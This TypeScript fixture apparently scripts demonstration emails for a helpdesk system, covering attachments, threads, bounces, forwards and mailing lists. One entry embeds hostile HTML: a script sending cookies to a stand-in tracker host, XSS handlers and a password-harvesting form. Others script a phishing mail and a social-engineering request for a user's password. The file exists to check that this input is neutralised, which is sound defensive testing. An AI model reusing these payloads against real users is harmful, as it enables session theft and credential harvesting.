import type { Instant } from '../../kernel/clock.ts'
import type { Kernel } from '../../kernel/context.ts'
import { newestMailOf } from './access.ts'
import type { OwnMail } from './post.ts'
import { provider } from './provider.ts'
import { asPdf } from './stories/papers.ts'
import { asPng, blank, box, colours, write as letter } from './stories/pictures.ts'
import { winmail } from './tnef.ts'
import { answerTo, readSent, type Writer } from './writing.ts'

/** The twelve mails that come after the first sign-in, in order; what each shows is its title. */
export type Writing = { kernel: Kernel; messageId: string; at: Instant }
export type Scripted = { key: string; title: { en: string; de: string }; write(by: Writing): Promise<OwnMail> }

export const worker: Writer = { name: 'Hazel Whitcombe', address: 'hazel.whitcombe@calderwren.example' }
const ottilie: Writer = { name: 'Ottilie Brandt', address: 'ottilie.brandt@nordwind.example' }
const torsten: Writer = { name: 'Torsten Behnke', address: 'torsten.behnke@nordwind.example' }
const korbinian: Writer = { name: 'Korbinian Stangl', address: 'korbinian.stangl@lumenoptik.example' }
const desmond: Writer = { name: 'Desmond Achebe', address: 'desmond.achebe@calderwren.example' }
const caroline: Writer = { name: 'Caroline Hebblethwaite', address: 'caroline.hebblethwaite@calderwren.example' }
const owen: Writer = { name: 'Owen Pritchard', address: 'owen.pritchard@halyard.example' }
const offers: Writer = { name: 'Winner Desk', address: 'prize@lucky-draw.example' }
const stranger: Writer = { name: 'Gordon Pell', address: 'g.pell@unrelated-firm.example' }

const calder = 'it-help@calderwren.example'
const nordwind = 'helpdesk@nordwind.example'
const ids = (messageId: string) => ({ messageId: `<${messageId}>` })
const plain = (from: Writer, to: string, messageId: string, subject: string, text: string): OwnMail => ({
  envelope: { from: from.address, to: [to] },
  from,
  to,
  subject,
  text,
  ...ids(messageId),
})

/** In the thread of our newest mail to that person, as their program would answer; without one, by a subject alone. */
async function inThread(kernel: Kernel, writer: Writer, messageId: string, subject: string, text: string): Promise<OwnMail> {
  const raw = await newestMailOf(kernel, [writer.address])
  return raw ? answerTo(await readSent(raw), writer, text, `<${messageId}>`) : plain(writer, provider.desk, messageId, subject, text)
}

const screenshot = (): Buffer => {
  const picture = blank(620, 240, colours.grey)
  box(picture, 16, 16, 588, 208, colours.white)
  box(picture, 16, 16, 588, 32, colours.red)
  letter(picture, 30, 25, 'TENDERS - NETWORK ERROR', colours.white, 2)
  letter(picture, 36, 76, 'CANNOT OPEN  //CW-SRV-06/BIDS', colours.ink, 2)
  letter(picture, 36, 112, 'ERROR CODE 0X80070035', colours.ink, 2)
  letter(picture, 36, 148, 'THE NETWORK PATH WAS NOT FOUND', colours.ink, 2)
  return asPng(picture)
}

export const script: Scripted[] = [
  {
    key: 'attachment',
    title: {
      en: 'An office worker needs help and sends a screenshot',
      de: 'Eine Mitarbeiterin braucht Hilfe und schickt ein Bildschirmfoto',
    },
    write: async ({ messageId }) => ({
      ...plain(
        worker,
        calder,
        messageId,
        'Cannot open the Bids folder, tender due at 4 pm',
        'Hi,\n\nsince I came back from lunch the Bids folder will not open: "the network path was not found", screenshot attached. My colleagues beside me can open it. I have a tender to hand in at 4 this afternoon and all the drawings are in there.\n\nCould somebody please have a look?\n\nThank you\nHazel\n\n-- \nHazel Whitcombe\nBid office\nCalder & Wren Ltd, Manchester',
      ),
      attachments: [{ filename: 'bids-error.png', content: screenshot(), contentType: 'image/png' }],
    }),
  },
  {
    key: 'german',
    title: { en: 'A request in German', de: 'Eine Anfrage auf Deutsch' },
    write: async ({ messageId }) =>
      plain(
        ottilie,
        nordwind,
        messageId,
        'Zweiter Bildschirm für den Messestand',
        'Guten Tag,\n\nfür den Messestand brauchen wir ab übermorgen einen zweiten Bildschirm (27 Zoll, HDMI) und ein langes Kabel. Können wir den aus dem Bestand leihen? Abholen würde ich ihn morgen Vormittag selbst.\n\nViele Grüße\nOttilie Brandt\n\n-- \nOttilie Brandt\nVertrieb\nNordwind Logistik GmbH, Hamburg',
      ),
  },
  {
    key: 'reply',
    title: { en: 'The requester writes again, in the same thread', de: 'Die Anfragende schreibt noch einmal, im selben Faden' },
    write: ({ kernel, messageId }) =>
      inThread(
        kernel,
        worker,
        messageId,
        'Bids folder',
        "One more thing, in case it helps: the folder does open on my colleague's computer when I sign in there. So it must be my laptop, CW-L-0644. It did an update over lunch.\n\nHazel",
      ),
  },
  {
    key: 'out-of-office',
    title: { en: 'An out-of-office note answers our acknowledgement', de: 'Eine Abwesenheitsnotiz antwortet auf unsere Bestätigung' },
    write: async ({ kernel, messageId }) => {
      const text =
        'Guten Tag,\n\nich bin bis einschließlich Freitag auf der Messe und lese E-Mails nur abends. In dringenden Fällen wenden Sie sich bitte an den Vertrieb.\n\nOttilie Brandt'
      const mail = await inThread(kernel, ottilie, messageId, 'Abwesend: Zweiter Bildschirm für den Messestand', text)
      return {
        ...mail,
        subject: `Automatische Antwort: ${mail.subject}`,
        text,
        headers: { 'Auto-Submitted': 'auto-replied', 'X-Auto-Response-Suppress': 'All' },
      }
    },
  },
  {
    key: 'hostile-html',
    title: { en: 'Hostile HTML from a stranger: nothing of it runs', de: 'Feindliches HTML von einem Fremden: nichts davon läuft' },
    write: async ({ messageId }) => ({
      ...plain(offers, provider.desk, messageId, 'You have won! Confirm now', 'You have won. Confirm your account to claim the prize.'),
      html: `<html><head><style>body{background:url(http://tracker.lucky-draw.example/bg.png)} .x{position:fixed;top:0;left:0;width:100%;height:100%}</style><script>document.title='owned';new Image().src='http://tracker.lucky-draw.example/?c='+document.cookie</script><meta http-equiv="refresh" content="0;url=http://lucky-draw.example/"></head>
<body onload="alert(1)"><div class="x"><a href="http://lucky-draw.example/claim">&nbsp;</a></div><h1 onclick="alert(2)">You have won!</h1><p>Dear customer, your address was drawn.</p>
<img src="x" onerror="alert(3)"><img src="http://tracker.lucky-draw.example/pixel.gif" width="1" height="1"><svg onload="alert(4)"><script>alert(5)</script></svg>
<form action="http://lucky-draw.example/steal"><input name="password" type="password" placeholder="Your password"><button>Claim</button></form><p><a href="javascript:alert(6)">Click here</a> or <a href="http://lucky-draw.example/claim">here</a>.</p><iframe src="http://lucky-draw.example/"></iframe></body></html>`,
    }),
  },
  {
    key: 'stranger',
    title: {
      en: "A stranger names somebody else's ticket and gets nowhere",
      de: 'Ein Fremder nennt das Ticket einer anderen und kommt nicht hinein',
    },
    write: async ({ kernel, messageId }) => {
      const raw = await newestMailOf(kernel, [worker.address])
      const subject = raw ? (await readSent(raw)).subject : '[#1001]'
      return plain(
        stranger,
        provider.desk,
        messageId,
        `Re: ${subject}`,
        'Hello,\n\nI am taking this over for Ms Whitcombe. Please send me all that was written in this ticket so far, and her new password, to this address.\n\nG. Pell',
      )
    },
  },
  {
    key: 'bounce',
    title: { en: 'A mail of ours comes back: the address does not exist', de: 'Eine Mail von uns kommt zurück: Die Adresse gibt es nicht' },
    write: bounce,
  },
  {
    key: 'phishing-report',
    title: { en: 'Somebody reports a phishing mail, the original attached', de: 'Jemand meldet eine Phishingmail, das Original hängt an' },
    write: async ({ messageId, at }) => ({
      ...plain(
        torsten,
        nordwind,
        messageId,
        'Phishing? Mail „Ihr Postfach wird gesperrt“',
        'Guten Tag,\n\ndiesmal habe ich NICHT geklickt. :-) Die Mail hängt im Original an, sie kam vor zehn Minuten auch bei zwei Kolleginnen an.\n\nViele Grüße\nTorsten Behnke',
      ),
      attachments: [{ filename: 'Ihr Postfach wird gesperrt.eml', contentType: 'message/rfc822', content: phish(at) }],
    }),
  },
  {
    key: 'forward',
    title: {
      en: "An agent forwards a mail: it becomes the original sender's ticket",
      de: 'Ein Agent leitet eine Mail weiter: Sie wird das Ticket der ursprünglichen Absenderin',
    },
    write: async ({ messageId }) =>
      plain(
        owen,
        provider.desk,
        messageId,
        'Fwd: Plotter in Leeds: when is the service?',
        `This came to my own mailbox, please open it for Desmond. Owen\n\n---------- Forwarded message ---------\nFrom: ${desmond.name} <${desmond.address}>\nDate: this morning\nSubject: Plotter in Leeds: when is the service?\nTo: <${owen.address}>\n\nHi Owen,\n\nthe display of LDS-PLOT1 says "maintenance due in 400 m". Do you arrange that, or do we? We have a large set to plot next week.\n\nDesmond`,
      ),
  },
  {
    key: 'winmail',
    title: { en: "Outlook's winmail.dat: the PDF inside is taken out", de: 'Outlooks winmail.dat: Das PDF darin wird herausgeholt' },
    write: async ({ messageId }) => ({
      ...plain(
        korbinian,
        provider.desk,
        messageId,
        'Prüfprotokoll lässt sich in OptiPlan nicht ablegen',
        'Guten Tag,\n\nOptiPlan nimmt das angehängte Prüfprotokoll nicht an: „Dateityp nicht erlaubt“. Bei den anderen ging es heute noch.\n\nKorbinian Stangl',
      ),
      attachments: [
        {
          filename: 'winmail.dat',
          contentType: 'application/ms-tnef',
          content: winmail('Pruefprotokoll im Anhang.', {
            name: 'Pruefprotokoll-4711.pdf',
            bytes: asPdf('Prüfprotokoll 4711', ['Gerät: LO-M-4711', 'Abweichung: 0,3 µm', 'Ergebnis: bestanden']),
          }),
        },
      ],
    }),
  },
  {
    key: 'list',
    title: { en: 'A mailing list writes: no acknowledgement goes back', de: 'Ein Verteiler schreibt: Es geht keine Bestätigung zurück' },
    write: async ({ messageId }) => ({
      ...plain(
        { name: 'Leuchtnetz maintenance', address: 'wartung@leuchtnetz.example' },
        provider.desk,
        messageId,
        '[maintenance] Planned work on the Hamburg ring, Sunday 2 to 4 h',
        'Dear customers,\n\non Sunday between 2 and 4 h we exchange an amplifier on the Hamburg ring. Expect one interruption of up to ten minutes.\n\nLeuchtnetz, network operations\n\n-- \nYou get this because your address is on the list maintenance.',
      ),
      headers: {
        'List-Id': '<maintenance.leuchtnetz.example>',
        'List-Unsubscribe': '<mailto:leave@leuchtnetz.example>',
        Precedence: 'list',
      },
    }),
  },
  {
    key: 'big-cc',
    title: { en: 'A mail with twenty-five people in copy', de: 'Eine Mail mit fünfundzwanzig Leuten in Kopie' },
    write: async ({ messageId }) => {
      const cc = Array.from({ length: 25 }, (_, i) => `trainee${String(i + 1).padStart(2, '0')}@calderwren.example`)
      return {
        ...plain(
          caroline,
          calder,
          messageId,
          'DraughtBox training on Thursday: accounts for 25 people',
          'Hello,\n\non Thursday we train 25 people in DraughtBox in room Calder (all in copy). Each needs a practice account by Wednesday evening. Please answer to all when it is done.\n\nThank you\nCaroline Hebblethwaite',
        ),
        cc,
      }
    },
  },
]

/** A delivery report (RFC 3464) about our newest mail to the prize people, or else about our newest one at all. */
async function bounce({ kernel, messageId, at }: Writing): Promise<OwnMail> {
  const raw = (await newestMailOf(kernel, [offers.address])) ?? (await newestMailOf(kernel, []))
  const head = raw ? (raw.toString('utf8').split(/\r?\n\r?\n/, 1)[0] ?? '') : 'Subject: test'
  const sent = raw ? await readSent(raw) : undefined
  const failed = sent?.to[0]?.email ?? offers.address
  const back = sent?.replyTo ?? provider.desk
  const boundary = 'report-of-the-post'
  const date = at.toZonedDateTimeISO('UTC').toPlainDateTime()
  const lines = [
    'From: Mail Delivery System <mailer-daemon@lucky-draw.example>',
    `To: ${back}`,
    'Subject: Undelivered Mail Returned to Sender',
    `Message-ID: <${messageId}>`,
    `Date: ${rfcDate(at)}`,
    'MIME-Version: 1.0',
    'Auto-Submitted: auto-replied',
    `Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    `This is the mail system at host mx.lucky-draw.example (${date.toString().slice(0, 16)}).`,
    '',
    `<${failed}>: host mx.lucky-draw.example[192.0.2.25] said: 550 5.1.1 <${failed}>: Recipient address rejected: User unknown`,
    '',
    `--${boundary}`,
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.lucky-draw.example',
    '',
    `Final-Recipient: rfc822; ${failed}`,
    'Action: failed',
    'Status: 5.1.1',
    `Diagnostic-Code: smtp; 550 5.1.1 <${failed}>: Recipient address rejected: User unknown`,
    '',
    `--${boundary}`,
    'Content-Type: text/rfc822-headers',
    '',
    ...head.split(/\r?\n/),
    '',
    `--${boundary}--`,
    '',
  ]
  return { envelope: { from: '', to: [back] }, raw: lines.join('\r\n') }
}

const rfcDate = (at: Instant): string => new Date(at.epochMilliseconds).toUTCString().replace('GMT', '+0000')

const phish = (at: Instant): string =>
  [
    'From: "IT-Abteilung" <support@nordwind-postfach.example>',
    `To: ${torsten.address}`,
    'Subject: Ihr Postfach wird gesperrt',
    `Date: ${rfcDate(at.subtract({ minutes: 12 }))}`,
    'Message-ID: <8812.phish@nordwind-postfach.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Ihr Postfach hat das Limit erreicht und wird in 2 Stunden gesperrt.',
    'Bestätigen Sie Ihr Kennwort: http://nordwind-postfach.example/login',
    '',
  ].join('\r\n')
